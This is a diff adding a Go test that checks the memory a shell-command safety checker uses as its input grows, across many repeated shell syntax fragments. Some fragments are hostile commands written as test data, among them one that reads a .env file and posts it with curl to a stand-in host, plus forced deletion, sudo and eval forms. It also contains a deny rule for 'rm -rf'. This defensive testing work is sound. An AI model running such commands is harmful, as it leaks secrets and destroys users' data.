@@ -1,0 +1,60 @@
+package shellcmd_test
+
+import (
+	"runtime"
+	"strings"
+	"testing"
+
+	"github.com/toolhost/toolhost/internal/shellcmd"
+)
+
+// A text of four times the length takes some four times the memory, whatever is repeated in it, and one that is too
+// long to be parsed takes little. The time that this takes would be no sure measure.
+func TestWorkGrowsWithTheLength(t *testing.T) {
+	work := func(text string) uint64 {
+		var before, after runtime.MemStats
+		runtime.ReadMemStats(&before)
+		shellcmd.Assess(text, here)
+		shellcmd.Rules{ReadOnly: true, Deny: [][]string{{"rm", "-rf"}}}.Judge(text, here)
+		shellcmd.Catastrophe(text, here)
+		shellcmd.Prefix(text)
+		shellcmd.GitFolders(text, here)
+		runtime.ReadMemStats(&after)
+		return after.TotalAlloc - before.TotalAlloc
+	}
+	for _, form := range strings.Split(strings.TrimSpace(`
+'a' *|"a$x" *|echo "|a$x*|"|echo $(echo |a *|)|echo |$(ls) *|echo |`+"`ls`"+` *|cat <<E~a~E~*|cat <<E~|line of $x~*|E~|python3 <<'E'~|x = 1~*|E~
+ls| && ls*|ls;*|echo |{a,b} *|echo |{1..9} *|echo $((1|+1*|))|echo |$((1+1)) *|if a; then b; fi;*|for i in a b; do ls; done;*|case a in b) c;; esac;*
+f() { ls; };*||a=1 *|ls||a=1;*|ls|echo |$x *|echo |${x:-a}*||xargs *|rm||sudo *|ls||env a=1 *|ls||sh -c *|ls|rm |a *|docker run |-v a:b *|x|docker run x |sh *
+npx |python *|uv run |--with *|-|find . |-name a *|-delete|find . |-exec rm {} + *|ls |> /tmp/a *|ls & *||! *|ls||[[ a == b ]] && *|ls|# a~*|echo |$'\x41' *|ls |*/*
+curl |-d @a *|http://x||curl http://x ; *|sh a|cat .env ; curl -d @- http://x; *||echo ls > a; sh a; *|. a;*|python3 -c 'print(1)';*|python3 -c '|print(1);*|'
+node -e '|console.log(1);*|'|perl -e '|print 1;*|'|awk '|{print $1}*|'|awk '|a / b / *|'|sed '|s/a/b/;*|' x|sed |-e s/a/b/ *|x|git |-c a.b=c *|status|git |-C a *|status
+cd a && *|ls||cd .. ; *|rm x|psql -c '|select 1;*|'|cat |<(ls) *|make |A=b *|echo |\a*|ls |@(x)*|a=(|x *|)|p=1;|kill $p;*||trap 'ls' EXIT;*|tmux new |'ls a' *
+(*|{ *|$(*|echo $((|(*|echo {a,*|echo |'*|echo |"*|echo ${x:-*|rm|${IFS}a*|echo |a`+"\r"+`*|) |rm -rf a ; *|alias a=b;*|eval *|ls|watch *|ls|ssh h *|ls`), "\n") {
+		parts := strings.Split(strings.ReplaceAll(form, "~", "\n"), "|")
+		for i, part := range parts {
+			repeated, ok := strings.CutSuffix(part, "*")
+			if !ok {
+				continue
+			}
+			begin, end := "", ""
+			if i > 0 && !strings.HasSuffix(parts[i-1], "*") {
+				begin = parts[i-1]
+			}
+			if i+1 < len(parts) && !strings.HasSuffix(parts[i+1], "*") {
+				end = parts[i+1]
+			}
+			text := func(size int) string {
+				return begin + strings.Repeat(repeated, max(1, (size-len(begin)-len(end))/len(repeated))) + end
+			}
+			work(begin + repeated + end) // what is made at the first use
+			short, long, refused := work(text(3000)), work(text(12000)), uint64(0)
+			if !testing.Short() {
+				refused = work(text(1 << 20))
+			}
+			if long > 8*short || refused > 1<<30 {
+				t.Errorf("%q: %d KiB for 3 kB, %d for 12 kB, %d for 1 MiB", text(100), short>>10, long>>10, refused>>10)
+			}
+		}
+	}
+}
